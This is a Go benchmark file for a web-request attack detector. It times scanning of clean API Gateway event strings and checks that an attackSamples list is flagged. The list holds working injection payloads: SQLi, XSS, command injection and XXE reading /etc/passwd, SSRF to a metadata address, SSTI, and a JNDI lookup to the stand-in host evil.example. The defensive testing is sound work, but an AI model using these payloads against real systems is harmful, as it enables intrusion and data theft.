@@ -1,0 +1,172 @@
+package detect
+
+import (
+	"strings"
+	"testing"
+)
+
+// A typical API Gateway REST event carries about thirty client-controlled
+// strings: headers, query parameters, path parameters, a small JSON body.
+var cleanEvent = []string{
+	"GET", "/prod/orders/12345", "orders", "12345",
+	"application/json", "gzip, deflate, br", "en-US,en;q=0.9",
+	"Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36",
+	"keep-alive", "api.example.com", "https://www.example.com/checkout?step=2",
+	"Root=1-65a1b2c3-1234567890abcdef12345678", "3f2a1b4c-5d6e-4f70-8a9b-0c1d2e3f4a5b",
+	"no-cache", "1.1 7a8b9c.cloudfront.net (CloudFront)", "203.0.113.42", "https", "443",
+	"session=abc123def456; theme=dark", "2024-01-15T10:30:00Z", "desc", "25", "shipped",
+	"Jane O'Brien", "jane.obrien@example.com", "Please leave the parcel at the back door, thanks!",
+	"42 Main St, Springfield", "+1 (555) 010-2000", "Blue cotton t-shirt, size M", "$19.99",
+}
+
+func benchDetector(b *testing.B) *Detector {
+	d, err := New(Config{})
+	if err != nil {
+		b.Fatal(err)
+	}
+	return d
+}
+
+func BenchmarkNew(b *testing.B) {
+	b.ReportAllocs()
+	for b.Loop() {
+		if _, err := New(Config{}); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func BenchmarkNewWithRules(b *testing.B) {
+	cfg := Config{Rules: []Rule{
+		{ID: "custom.ticket", Category: SQLi, Pattern: `drop\s+database`},
+		{ID: "custom.path", Category: PathTraversal, Pattern: `/internal/[a-z]+`},
+	}}
+	b.ReportAllocs()
+	for b.Loop() {
+		if _, err := New(cfg); err != nil {
+			b.Fatal(err)
+		}
+	}
+}
+
+func BenchmarkScanCleanShort(b *testing.B) {
+	d := benchDetector(b)
+	var dst []Match
+	b.ReportAllocs()
+	for b.Loop() {
+		dst = d.Scan(dst[:0], "shipped", Input{})
+	}
+}
+
+// BenchmarkScanCleanEvent scans every string of a typical clean event.
+func BenchmarkScanCleanEvent(b *testing.B) {
+	d := benchDetector(b)
+	var dst []Match
+	b.ReportAllocs()
+	for b.Loop() {
+		for _, s := range cleanEvent {
+			dst = d.Scan(dst[:0], s, Input{})
+		}
+	}
+	if len(dst) != 0 {
+		b.Fatalf("clean event flagged: %v", dst)
+	}
+}
+
+func BenchmarkScanClean1KB(b *testing.B) {
+	d := benchDetector(b)
+	text := strings.Repeat("The quick brown fox jumps over the lazy dog, and then it naps. ", 17)[:1024]
+	var dst []Match
+	b.SetBytes(int64(len(text)))
+	b.ReportAllocs()
+	for b.Loop() {
+		dst = d.Scan(dst[:0], text, Input{})
+	}
+	if len(dst) != 0 {
+		b.Fatalf("clean text flagged: %v", dst)
+	}
+}
+
+func BenchmarkScanClean1KBPunctuated(b *testing.B) {
+	d := benchDetector(b)
+	text := strings.Repeat("Hi! I'm O'Brien; order #123 (2 items) costs $19.99 - see https://example.com/a?b=c. ", 13)[:1024]
+	var dst []Match
+	b.SetBytes(int64(len(text)))
+	b.ReportAllocs()
+	for b.Loop() {
+		dst = d.Scan(dst[:0], text, Input{})
+	}
+	if len(dst) != 0 {
+		b.Fatalf("clean text flagged: %v", dst)
+	}
+}
+
+var attackSamples = []struct {
+	cat     Category
+	payload string
+}{
+	{SQLi, "1' OR '1'='1' -- "},
+	{XSS, `"><svg/onload=alert(document.domain)>`},
+	{CmdI, "127.0.0.1; cat /etc/passwd"},
+	{PathTraversal, "..%2f..%2f..%2fetc%2fpasswd"},
+	{SSRF, "http://0xA9FEA9FE/latest/meta-data/"},
+	{NoSQLi, `{"username": {"$ne": null}}`},
+	{SSTI, "{{''.__class__.__mro__[1].__subclasses__()}}"},
+	{JNDI, "${${lower:j}ndi:ldap://evil.example/a}"},
+	{ProtoPollution, `{"__proto__": {"admin": true}}`},
+	{XXE, `<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>`},
+	{LDAPi, "*)(uid=*))(|(uid=*"},
+}
+
+func BenchmarkScanAttack(b *testing.B) {
+	d := benchDetector(b)
+	for _, a := range attackSamples {
+		b.Run(string(a.cat), func(b *testing.B) {
+			var dst []Match
+			b.ReportAllocs()
+			for b.Loop() {
+				dst = d.Scan(dst[:0], a.payload, Input{})
+			}
+			if len(dst) == 0 {
+				b.Fatalf("%s not detected: %q", a.cat, a.payload)
+			}
+		})
+	}
+}
+
+func BenchmarkScan256KB(b *testing.B) {
+	d := benchDetector(b)
+	var sb strings.Builder
+	for sb.Len() < 256<<10 {
+		sb.WriteString("Customer note: the parcel (order #4411) arrived on 2024-01-02; thanks, O'Brien & co. ")
+	}
+	text := sb.String()
+	var dst []Match
+	b.SetBytes(int64(len(text)))
+	b.ReportAllocs()
+	for b.Loop() {
+		dst = d.Scan(dst[:0], text, Input{})
+	}
+	if len(dst) != 0 {
+		b.Fatalf("clean text flagged: %v", dst)
+	}
+}
+
+func BenchmarkScan256KBEncoded(b *testing.B) {
+	d := benchDetector(b)
+	text := strings.Repeat("%2e%2e%2f&#x3c;\\u0041", 256<<10/21)
+	var dst []Match
+	b.SetBytes(int64(len(text)))
+	b.ReportAllocs()
+	for b.Loop() {
+		dst = d.Scan(dst[:0], text, Input{})
+	}
+}
+
+func BenchmarkNormalize(b *testing.B) {
+	s := "%253Cscript%253Ealert(1)%253C%252Fscript%253E &#x3c;img src=x&#x3e; \\u003csvg\\u003e ＜ｓｃｒｉｐｔ＞"
+	b.ReportAllocs()
+	for b.Loop() {
+		_ = Normalize(s)
+	}
+}
